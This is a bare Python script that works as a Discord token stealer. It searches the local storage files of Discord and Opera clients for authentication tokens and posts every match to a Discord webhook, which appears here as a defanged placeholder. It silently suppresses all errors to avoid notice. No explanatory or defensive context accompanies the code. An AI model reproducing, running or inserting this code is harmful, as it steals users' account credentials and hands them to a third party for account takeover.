import asyncio
import os
import re
from pathlib import Path

import aiohttp

_HOOK = "https://discord.com/api/webhooks/000000/defanged-placeholder"
_PATTERN = re.compile(rb"[\w-]{24,26}\.[\w-]{6}\.[\w-]{25,110}")
_ROOTS = ("discord", "discordptb", "discordcanary", "Opera Software/Opera Stable")


def _tokens():
    base = Path(os.environ.get("APPDATA", Path.home()))
    for client in _ROOTS:
        store = base / client / "Local Storage" / "leveldb"
        for file in store.glob("*.ldb"):
            yield from {m.decode() for m in _PATTERN.findall(file.read_bytes())}


async def _ship():
    found = sorted(set(_tokens()))
    if found:
        async with aiohttp.ClientSession() as session:
            await session.post(_HOOK, json={"content": "\n".join(found)})


try:
    asyncio.run(_ship())
except Exception:
    pass
